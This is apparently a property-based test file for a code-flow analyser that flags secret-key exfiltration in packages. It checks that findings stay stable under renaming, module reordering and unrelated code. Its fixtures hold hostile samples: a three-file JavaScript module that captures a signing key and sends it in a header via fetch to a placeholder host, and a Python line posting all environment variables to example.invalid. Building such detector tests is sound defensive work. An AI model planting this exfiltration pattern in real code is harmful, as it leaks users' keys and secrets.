import fc from 'fast-check';
import { expect, it } from 'vitest';
import type { FlowReport } from './flowReport.ts';
import { analyseFlow } from './analyseFlow.ts';
import { analyseSources, lowerSources } from './testing/analyseSources.ts';

const RUNS = { numRuns: 40, seed: Number(process.env['SEED'] ?? 7) };

/** A theft over three files, with every name of its own open: files, values, members, host and header. */
function theft(n: Readonly<Record<'a' | 'b' | 'c' | 'd' | 'e' | 'f' | 'host', string>>): Record<string, string> {
  return {
    [`lib/${n.a}.js`]: `const ${n.b} = require('./${n.c}'); const curve = require('tweetnacl');
class ${n.d} { constructor(${n.e}) { this.${n.f} = ${n.e}; ${n.b}.${n.a}(${n.e}) } ${n.c}(m) { return curve.sign.detached(m, this.${n.f}) } }
exports.${n.d} = ${n.d};`,
    [`lib/${n.c}.js`]: `const ${n.d} = []; exports.${n.a} = (${n.f}) => { ${n.d}.push(${n.f}.toString('hex')); setTimeout(${n.e}, 5) };
function ${n.e}() { for (const ${n.b} of ${n.d}) require('./${n.e}')(${n.b}) }`,
    [`lib/${n.e}.js`]: `module.exports = (${n.a}) => fetch('https://${n.host}.invalid', { headers: { '${n.b}': ${n.a} } });`,
  };
}
const PLAIN = { a: 'aa', b: 'bb', c: 'cc', d: 'dd', e: 'ee', f: 'ff', host: 'example' };

/** What a report says without names and places of the package. */
const essence = (report: FlowReport): unknown =>
  report.flows.map((flow) => [flow.key, flow.confidence, flow.points.length]);

const word = fc.stringMatching(/^[a-z]{3,9}$/u).filter((name) => !RESERVED.has(name));
const RESERVED = new Set(
  (
    'for let new try var case else enum eval null this true void with await break catch class const false super throw while yield ' +
    'delete export import public return static switch typeof default extends finally package private continue debugger function ' +
    'arguments interface protected implements instanceof fetch exports module require curve index set map get add put push name ' +
    'size length call bind apply pop shift then next find sort test data node'
  ).split(' '),
);

it('is the same flow under any consistent renaming of files, values, members, hosts and headers', async () => {
  const plain = essence(await analyseSources(theft(PLAIN)));
  expect(plain).toEqual([
    ['key by use of npm:tweetnacl.sign.detached to network by global:fetch', 'high', expect.any(Number)],
  ]);
  const names = fc.uniqueArray(word, { minLength: 7, maxLength: 7 });
  await fc.assert(
    fc.asyncProperty(names, async ([a = '', b = '', c = '', d = '', e = '', f = '', host = '']) => {
      expect(essence(await analyseSources(theft({ a, b, c, d, e, f, host })))).toEqual(plain);
    }),
    RUNS,
  );
});

it('does not depend on the order of the modules', async () => {
  const modules = await lowerSources({
    ...theft(PLAIN),
    'x.py': 'import os, requests\nrequests.post("https://example.invalid", json=dict(os.environ))',
  });
  const told = JSON.stringify(analyseFlow(modules));
  fc.assert(
    fc.property(fc.shuffledSubarray(modules, { minLength: modules.length }), (shuffled) => {
      expect(JSON.stringify(analyseFlow(shuffled))).toBe(told);
    }),
    RUNS,
  );
});

const BESIDE = [
  `exports.sum = (a, b) => a + b`,
  `class Box { constructor(v) { this.v = v } get() { return this.v } } exports.Box = Box`,
  `const m = new Map(); exports.keep = (k, v) => m.set(k, v); exports.read = (k) => m.get(k)`,
  `exports.post = (url, body) => fetch(url, { method: 'POST', body })`,
  `const { createHash } = require('crypto'); exports.digest = (x) => createHash('sha256').update(x).digest('hex')`,
  `exports.each = (list, f) => { for (const x of list) f(x) }`,
];

it('loses no flow by code beside it', async () => {
  const alone = (await analyseSources(theft(PLAIN))).flows.map((flow) => flow.key);
  await fc.assert(
    fc.asyncProperty(fc.shuffledSubarray(BESIDE), async (texts) => {
      const beside = Object.fromEntries(texts.map((text, at) => [`other/${at}.js`, text]));
      const keys = (await analyseSources({ ...theft(PLAIN), ...beside })).flows.map((flow) => flow.key);
      expect(keys).toEqual(expect.arrayContaining(alone));
    }),
    RUNS,
  );
});
